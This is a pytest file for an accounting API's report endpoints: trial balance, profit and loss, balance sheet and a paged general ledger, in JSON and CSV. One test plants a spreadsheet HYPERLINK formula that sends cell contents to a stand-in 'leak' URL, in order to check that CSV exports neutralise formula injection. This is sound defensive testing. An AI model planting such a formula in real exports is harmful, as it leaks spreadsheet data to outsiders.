"""The reports, computed from the kept balances: they agree with the journal's lines, in JSON
and CSV, for whole months and odd days alike."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession

from app.domain.accounting import reports
from app.domain.accounting.rules import month_end, spans
from tests.factories.accounting import ENTRIES, book, line
from tests.factories.identity import auth_headers

REPORTS = "/api/v1/accounting/reports"


async def _shop_year(client: httpx.AsyncClient, headers: dict[str, str]) -> None:
    await book(
        client,
        headers,
        day="2026-01-02",
        text="Einlage",
        lines=[line("1200", "debit", "10000.00"), line("0800", "credit", "10000.00")],
    )
    await book(client, headers, day="2026-03-15")  # cash sale: 119.00 gross
    await book(
        client,
        headers,
        day="2026-03-20",
        text="Miete März",
        lines=[line("4210", "debit", "40.00"), line("1200", "credit", "40.00")],
    )
    await book(client, headers, day="2026-04-10", text="Wareneinkauf", lines=[
        line("3400", "debit", "200.00"), line("1576", "debit", "38.00"),
        line("1600", "credit", "238.00")])  # fmt: skip


async def test_the_trial_balance_counts_the_year_up_to_the_day(
    client: httpx.AsyncClient, accountant: dict[str, str]
) -> None:
    await _shop_year(client, accountant)
    mid_march = await client.get(
        f"{REPORTS}/trial-balance", params={"as_of": "2026-03-17"}, headers=accountant
    )
    assert mid_march.status_code == 200, mid_march.text
    report = mid_march.json()
    assert (report["fiscal_year"], report["starts_on"]) == (2026, "2026-01-01")
    by_account = {r["account"]: (r["debit"], r["credit"], r["balance"]) for r in report["accounts"]}
    assert by_account == {
        "0800": ("0.00", "10000.00", "-10000.00"),
        "1000": ("119.00", "0.00", "119.00"),
        "1200": ("10000.00", "0.00", "10000.00"),
        "1776": ("0.00", "19.00", "-19.00"),
        "8400": ("0.00", "100.00", "-100.00"),
    }
    assert report["debit"] == report["credit"] == "10119.00"

    as_csv = await client.get(
        f"{REPORTS}/trial-balance",
        params={"as_of": "2026-03-17"},
        headers={**accountant, "Accept": "text/csv"},
    )
    assert as_csv.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert {r["account"]: (r["debit"], r["credit"], r["balance"]) for r in rows} == by_account


async def test_profit_and_loss_and_balance_sheet_agree(
    app: FastAPI, client: httpx.AsyncClient, accountant: dict[str, str]
) -> None:
    await _shop_year(client, accountant)
    credit_officer = await auth_headers(app, "credit_officer")
    pnl = await client.get(
        f"{REPORTS}/profit-and-loss",
        params={"from": "2026-01-01", "to": "2026-12-31"},
        headers=credit_officer,
    )
    assert pnl.status_code == 200, pnl.text
    assert (pnl.json()["income"]["total"], pnl.json()["expenses"]["total"]) == (
        "100.00",
        "240.00",
    )
    assert pnl.json()["result"] == "-140.00"
    groups = {g["group"]: g["total"] for g in pnl.json()["expenses"]["groups"]}
    assert groups["Sonstige betriebliche Aufwendungen"] == "40.00"

    sheet = (
        await client.get(
            f"{REPORTS}/balance-sheet", params={"as_of": "2026-12-31"}, headers=credit_officer
        )
    ).json()
    assert sheet["result"] == "-140.00"
    assert sheet["total_assets"] == sheet["total_equity_and_liabilities"] == "10117.00"
    refused = await client.get(
        f"{REPORTS}/general-ledger",
        params={"account": "1200", "from": "2026-01-01", "to": "2026-12-31"},
        headers=credit_officer,
    )
    assert refused.status_code == 403  # balances, not the entries behind them


async def test_the_general_ledger_runs_the_balance_from_the_years_start(
    client: httpx.AsyncClient, accountant: dict[str, str]
) -> None:
    await _shop_year(client, accountant)
    ledger = await client.get(
        f"{REPORTS}/general-ledger",
        params={"account": "1200", "from": "2026-03-01", "to": "2026-12-31"},
        headers=accountant,
    )
    assert ledger.status_code == 200, ledger.text
    body = ledger.json()
    assert body["opening_balance"] == "10000.00"
    assert [(x["text"], x["credit"], x["balance"]) for x in body["lines"]] == [
        ("Miete März", "40.00", "9960.00")
    ]
    assert body["closing_balance"] == "9960.00"
    backwards = await client.get(
        f"{REPORTS}/general-ledger",
        params={"account": "1200", "from": "2026-03-01", "to": "2026-02-01"},
        headers=accountant,
    )
    assert backwards.status_code == 422
    across = await client.get(
        f"{REPORTS}/general-ledger",
        params={"account": "1200", "from": "2026-03-01", "to": "2027-02-01"},
        headers=accountant,
    )
    assert across.status_code == 422  # balances run per fiscal year


@given(st.dates(date(1, 1, 1), date(9999, 9, 1)), st.integers(-3, 120))
def test_spans_cover_each_day_once(first: date, length: int) -> None:
    last = first + timedelta(days=length)
    span = spans(first, last)
    days: list[date] = []
    for part in (span.days_before, span.days_after):
        if part:
            days += [part[0] + timedelta(i) for i in range((part[1] - part[0]).days + 1)]
    if span.months:
        month = span.months[0]
        while month <= span.months[1]:
            end = month_end(month)
            days += [month + timedelta(i) for i in range(end.day)]
            month = end + timedelta(days=1)
    assert sorted(days) == [first + timedelta(i) for i in range(max(length + 1, 0))]


_ACCOUNTS = ["1000", "1200", "1400", "1600", "0800", "8400", "4210", "3400", "1776", "1576"]
_pair = st.tuples(
    st.sampled_from(_ACCOUNTS), st.sampled_from(_ACCOUNTS), st.integers(1, 10_000_000)
)
_entry = st.tuples(
    st.integers(0, 729), st.lists(_pair, min_size=1, max_size=4), st.none() | st.integers(0, 60)
)


async def _plain_group_by(session: AsyncSession, first: date, last: date) -> dict[str, Decimal]:
    rows = await session.execute(
        text(
            "SELECT a.number, sum(l.amount) FROM accounting_journal_line l"
            " JOIN accounting_journal_entry e ON e.id = l.entry_id"
            " JOIN accounting_account a ON a.id = l.account_id"
            " WHERE e.status = 'posted' AND e.posting_date BETWEEN :first AND :last"
            " GROUP BY a.number HAVING sum(l.amount) <> 0"
        ),
        {"first": first, "last": last},
    )
    return {str(row[0]): row[1] for row in rows.all()}


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(entries=st.lists(_entry, min_size=1, max_size=6), as_of=st.integers(0, 729))
async def test_random_postings_and_reversals_keep_the_books_balanced(
    client: httpx.AsyncClient,
    session: AsyncSession,
    accountant: dict[str, str],
    entries: list[tuple[int, list[tuple[str, str, int]], int | None]],
    as_of: int,
) -> None:
    """Examples add up in one company: the invariants hold for any journal."""
    start = date(2026, 1, 1)
    for offset, pairs, reverse_after in entries:
        lines = [x for d, c, cents in pairs
                 for x in (line(d, "debit", f"{Decimal(cents) / 100:.2f}"),
                           line(c, "credit", f"{Decimal(cents) / 100:.2f}"))]  # fmt: skip
        day = start + timedelta(days=offset)
        posted = await book(client, accountant, day=day.isoformat(), lines=lines)
        if reverse_after is not None:
            reversed_ = await client.post(
                f"{ENTRIES}/{posted['id']}/reverse",
                json={"posting_date": (day + timedelta(days=reverse_after)).isoformat()},
                headers=accountant,
            )
            assert reversed_.status_code == 201, reversed_.text
    day = start + timedelta(days=as_of)
    trial = (
        await client.get(f"{REPORTS}/trial-balance", params={"as_of": str(day)}, headers=accountant)
    ).json()
    assert trial["debit"] == trial["credit"]
    assert sum(Decimal(r["balance"]) for r in trial["accounts"]) == 0
    reference = await _plain_group_by(session, date(day.year, 1, 1), day)
    kept: dict[str, Any] = {r["account"]: Decimal(r["balance"]) for r in trial["accounts"]}
    assert {k: v for k, v in kept.items() if v} == reference
    sheet = (
        await client.get(f"{REPORTS}/balance-sheet", params={"as_of": str(day)}, headers=accountant)
    ).json()
    assert sheet["total_assets"] == sheet["total_equity_and_liabilities"]
    pnl = (
        await client.get(
            f"{REPORTS}/profit-and-loss",
            params={"from": f"{day.year}-01-01", "to": str(day)},
            headers=accountant,
        )
    ).json()
    assert pnl["result"] == sheet["result"]


async def test_a_csv_report_quotes_a_text_a_spreadsheet_would_run_as_a_formula(
    client: httpx.AsyncClient, accountant: dict[str, str]
) -> None:
    formula = '=HYPERLINK("https://example.invalid/?leak="&A1,"Beleg")'
    await book(client, accountant, day="2026-03-15", text=formula)
    await book(client, accountant, day="2026-03-16", text="-Storno Kasse")
    ledger = await client.get(
        f"{REPORTS}/general-ledger",
        params={"account": "8400", "from": "2026-03-01", "to": "2026-03-31"},
        headers={**accountant, "Accept": "text/csv"},
    )
    assert ledger.status_code == 200, ledger.text
    rows = list(csv.DictReader(io.StringIO(ledger.text)))
    assert [r["text"] for r in rows] == ["'" + formula, "'-Storno Kasse"]
    assert [r["credit"] for r in rows] == ["100.00", "100.00"]  # amounts are left as they are
    assert rows[-1]["balance"] == "-200.00"


async def _ledger_pages(
    client: httpx.AsyncClient, headers: dict[str, str], params: dict[str, Any], limit: int
) -> list[dict[str, Any]]:
    pages, cursor = [], None
    while True:
        got = await client.get(
            f"{REPORTS}/general-ledger",
            params=params | {"limit": limit} | ({"cursor": cursor} if cursor else {}),
            headers=headers,
        )
        assert got.status_code == 200, got.text
        pages.append(got.json())
        cursor = pages[-1]["next_cursor"]
        if cursor is None:
            return pages
        assert len(pages) < 20, "the cursor does not move on"


async def test_the_general_ledger_pages_its_lines_and_the_balance_runs_on_across_pages(
    client: httpx.AsyncClient, accountant: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Seven lines on Kasse, three of them on one day and two in one entry, and one before
    the span: pages of 2 (a page ends inside the day and inside the entry) hold exactly the
    lines of one page of 500 and of the CSV (read in pages of 2 too), with the same running
    balances."""
    await book(client, accountant, day="2026-03-01", text="vorher")
    for text_, day in [("a", "2026-03-10"), ("b", "2026-03-12"), ("c", "2026-03-12")]:
        await book(client, accountant, day=day, text=text_)
    await book(
        client, accountant, day="2026-03-12", text="zwei Zeilen",
        lines=[line("1000", "debit", "5.00"), line("1000", "debit", "7.00"),
               line("1200", "credit", "12.00")],
    )  # fmt: skip
    await book(
        client, accountant, day="2026-03-20", text="Einzahlung",
        lines=[line("1200", "debit", "300.00"), line("1000", "credit", "300.00")],
    )  # fmt: skip
    params = {"account": "1000", "from": "2026-03-05", "to": "2026-03-31"}
    whole = await _ledger_pages(client, accountant, params, 500)
    assert len(whole) == 1
    pages = await _ledger_pages(client, accountant, params, 2)
    assert [len(p["lines"]) for p in pages] == [2, 2, 2]
    paged = [x for p in pages for x in p["lines"]]
    assert paged == whole[0]["lines"]
    assert [(x["text"], x["debit"], x["credit"], x["balance"]) for x in paged] == [
        ("a", "119.00", "0.00", "238.00"),
        ("b", "119.00", "0.00", "357.00"),
        ("c", "119.00", "0.00", "476.00"),
        ("zwei Zeilen", "5.00", "0.00", "481.00"),
        ("zwei Zeilen", "7.00", "0.00", "488.00"),
        ("Einzahlung", "0.00", "300.00", "188.00"),
    ]
    for page in pages:  # every page carries the whole span's figures
        assert (page["opening_balance"], page["debit"], page["credit"]) == ("119.00", "369.00",
                                                                           "300.00")  # fmt: skip
        assert page["closing_balance"] == "188.00"
    monkeypatch.setattr(reports, "_WHOLE_LEDGER_PAGE", 2)
    csv_ledger = await client.get(
        f"{REPORTS}/general-ledger", params=params | {"limit": 1},
        headers={**accountant, "Accept": "text/csv"},
    )  # fmt: skip
    assert csv_ledger.headers["content-length"] == str(len(csv_ledger.content))
    assert csv_ledger.headers["cache-control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(csv_ledger.text)))
    assert [(r["text"], r["balance"]) for r in rows] == [(x["text"], x["balance"]) for x in paged]


async def test_a_well_formed_ledger_cursor_outside_the_span_is_its_start_or_its_end(
    client: httpx.AsyncClient, accountant: dict[str, str]
) -> None:
    await book(client, accountant, day="2026-03-10")
    params = {"account": "1000", "from": "2026-03-01", "to": "2026-03-31"}
    for cursor, lines in [("1-1-1-1", 1), ("9999999-2999-1-1", 0)]:
        got = await client.get(
            f"{REPORTS}/general-ledger", params=params | {"cursor": cursor}, headers=accountant
        )
        assert got.status_code == 200, got.text
        assert len(got.json()["lines"]) == lines
        assert got.json()["next_cursor"] is None
    bad = await client.get(
        f"{REPORTS}/general-ledger", params=params | {"cursor": "2026-03-10"}, headers=accountant
    )
    assert bad.status_code == 422
